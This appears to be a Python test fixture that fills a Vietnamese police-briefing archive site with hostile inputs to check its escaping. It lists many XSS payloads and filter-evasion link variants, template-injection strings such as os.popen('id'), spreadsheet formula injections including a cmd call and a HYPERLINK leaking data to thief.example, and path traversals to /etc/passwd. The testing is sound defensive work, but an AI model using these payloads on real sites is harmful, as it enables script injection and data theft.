"""A site in whose every text somebody put what browsers, spreadsheets, templates or file systems might run."""

import json
from collections.abc import Iterable

from harness import Site

from giaoban.body import BodyConverter

CALL = "window.stolen=1"
SCRIPTS = (
    f"<script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script><![CDATA[",
    f"<ScRiPt/x>{CALL}</sCrIpT >",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<img src=x onerror={CALL}>",
    f"<img/src='x'/onerror='{CALL}'/>",
    f'"><img src=x onerror="{CALL}">',
    f"'><svg/onload='{CALL}'>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=javascript:parent.{CALL}></iframe>",
    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
    f"<embed src=javascript:{CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<body onload={CALL}>",
    f"<form action=javascript:{CALL}><button>x</button></form>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<base href=javascript:/{CALL}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
    "<link rel=stylesheet href=//thief.example/x.css>",
    "<style>@import '//thief.example/x.css';</style>",
    f"<p style='background:url(javascript:{CALL})'>x</p>",
    f'" onmouseover="{CALL}" x="',
    f"' autofocus onfocus='{CALL}' x='",
    f"` onclick={CALL} `",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"*/{CALL};/*",
    f"';{CALL};//",
    f'";{CALL};//',
    f"\\';{CALL};//",
    f"${{{CALL}}}",
)
TEMPLATES = (
    "{{ 7*7 }}",
    "{{ site.__class__.__mro__ }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}{{ os.popen('id').read() }}",
    "{{ ''.__class__.__base__.__subclasses__() }}",
    "{# note #}{%- raw %}",
    "#{7*7} ${7*7} <%= 7*7 %> {7*7}",
    "%(x)s {0.__class__} {x} $x",
    "__proto__ constructor toString hasOwnProperty",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://thief.example/?x="&A1,"xem")',
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "_x003D_1+1",
)
PATHS = (
    "../../../etc/passwd",
    "..\\..\\x",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\thief.example\\x",
    "con",
    "a/b",
)
TEXTS = (*SCRIPTS, *TEMPLATES, *FORMULAS, *PATHS)

LINKS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"&#x6A;avascript:{CALL}",
    f"&#0000106avascript:{CALL}",
    f"java&#x09;script:{CALL}",
    f"java&Tab;script:{CALL}",
    f"java&NewLine;script:{CALL}",
    f"&#1;javascript:{CALL}",
    f"javascript:&#47;&#47;%0a{CALL}",
    f"javascript\\:{CALL}",
    f"java\\script:{CALL}",
    f"%6aavascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:x",
    "ftp://thief.example/",
    "view-source:x",
    "//thief.example/x",
    "\\\\thief.example\\x",
    "/\\thief.example",
    "&#47;&#47;thief.example/x",
    "&sol;&sol;thief.example/x",
    "/etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\..\\etc\\passwd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    ".%2e/.%2E/.%2e/etc/passwd",
    "&#46;&#46;/&#46;&#46;/&#46;&#46;/x",
    "%5c%5cthief.example",
)
MARKDOWN = tuple(
    shape.format(link)
    for link in LINKS
    for shape in ("[x]({})", "[x](<{}>)", "[x]({} 'x')", "<{}>", "![x]({})", "[x]\n\n[x]: {}", '<a href="{}">x</a>')
)

WEB_ADDRESSES = (
    *(link for link in LINKS if link not in ("[x]",)),
    "http:",
    "https:///etc/passwd",
    "https:\\\\thief.example",
    "http:/\\thief.example",
    'https://example.vn/"onclick=x',
    "https://example.vn/ x",
    "https://example.vn/<script>",
)
"""None of them may stand where an address of the web is asked for."""

MARK = "§"
"""Where a hostile text goes."""

RECORD = """---
title: §
printed_title: §
kind: giao-ban
province: Quảng Trị
locality: §
date: {day}/{month}/2023
venue:
  - name: §
host: §
forces:
  - force: công an
    name: §
chair:
  - name: §
    rank: §
    position: §
    note: §
people:
  - name: §
    position: §
    role: báo cáo
participants: §
legal_bases:
  - number: §
    issuer: §
    title: §
    note: §
topics:
  - §
lead: §
figures:
  - indicator: tin-trao-doi
    value: 5
    printed_unit: §
    parts:
      §: 5
    quote: §
    note: §
    change:
      direction: tăng
      against: quý III/2022
      by: 1
      unit: §
shortcomings: §
discussion:
  - text: §
    by: §
    to: §
    due: §
    basis: §
proposals: §
conclusions: §
tasks: §
commendations: §
crime_trend: §
photos:
  - caption: §
    credit: §
    note: §
videos:
  - caption: §
    url: https://example.vn/?q=javascript:x&amp;y=%22%3E%3Cscript%3E
source:
  - publisher: §
    title: §
    url: https://example.vn/?q=javascript:x&amp;y=%22%3E%3Cscript%3E
    byline: §
    credit: §
    archived: https://example.vn/#javascript:x
    note: §
corrections:
  - printed: §
    correct: §
    where: §
    note: §
inferred:
  - field: kind
    why: §
note: §
---
{body}
"""
PAGE = "---\ntitle: {mark}\ndescription: {mark}\n---\n{body}\n"
CONFIG = """title: {vi: §, en: §}
description: {vi: §, en: §}
language: vi
base_url: https://luutru.example.vn/giao-ban
forces:
  - {slug: cong-an, label: {vi: §, en: §}, spellings: [công an]}
  - {slug: bien-phong, label: {vi: §, en: §}, spellings: [biên phòng]}
kinds:
  - {slug: giao-ban, label: {vi: §, en: §}}
stages:
  - {slug: bat-giu, label: {vi: §, en: §}}
coverage: {from: I/2023}
"""
INDICATORS = """categories:
  - {slug: trao-doi, label: {vi: §, en: §}}
indicators:
  - slug: tin-trao-doi
    label: {vi: §, en: §}
    unit: {vi: §, en: §}
    category: trao-doi
    additive: có
    definition: {vi: §, en: §}
"""
PROVINCES = """eras:
  - until: 30/6/2025
    units:
      - slug: quang-tri
        name: §
        type: tinh
        code: §
        aliases: [Quảng Trị]
        former: {name: Trị, type: tinh, until: 1/1/2001}
  - from: 1/7/2025
    units:
      - {slug: quang-tri, name: §, type: tinh, code: §, predecessors: [quang-tri]}
"""


def hostile_site(site: Site) -> None:
    """Fills every text of a site: each of TEXTS in every field of a record, and all links that a body may hold."""
    worst = f"'\"></title></script><script>{CALL}</script><img src=x onerror={CALL}>{{{{ 7*7 }}}}"
    for file, form in (
        ("site_config.yaml", CONFIG),
        ("content/indicators.yaml", INDICATORS),
        ("content/provinces.yaml", PROVINCES),
    ):
        site.write(file, filled(form, worst))
    bodies = accepted((*MARKDOWN, *TEXTS))
    for number, text in enumerate(TEXTS):
        record = RECORD.format(day=number % 28 + 1, month=number // 28 % 12 + 1, body="Lời bài.")
        site.write(f"content/records/quang-tri/x-{number}.md", filled(record, text))
    record = RECORD.format(day=1, month=1, body="\n\n".join(bodies))
    site.write("content/records/quang-tri/bodies.md", filled(record, "Lành"))
    for name in ("gioi-thieu", "trich-dan", "viet-ban-ghi"):
        site.write(f"content/pages/{name}.md", filled(PAGE.format(mark=MARK, body="\n\n".join(bodies)), worst))


def filled(form: str, text: str) -> str:
    return form.replace(MARK, json.dumps(text, ensure_ascii=False))


def accepted(texts: Iterable[str]) -> list[str]:
    """Those that a body may hold; the others stop a build."""
    converter = BodyConverter()
    return [text for text in texts if not converter.convert("x.md", tuple(text.split("\n")), text, 1)[1]]
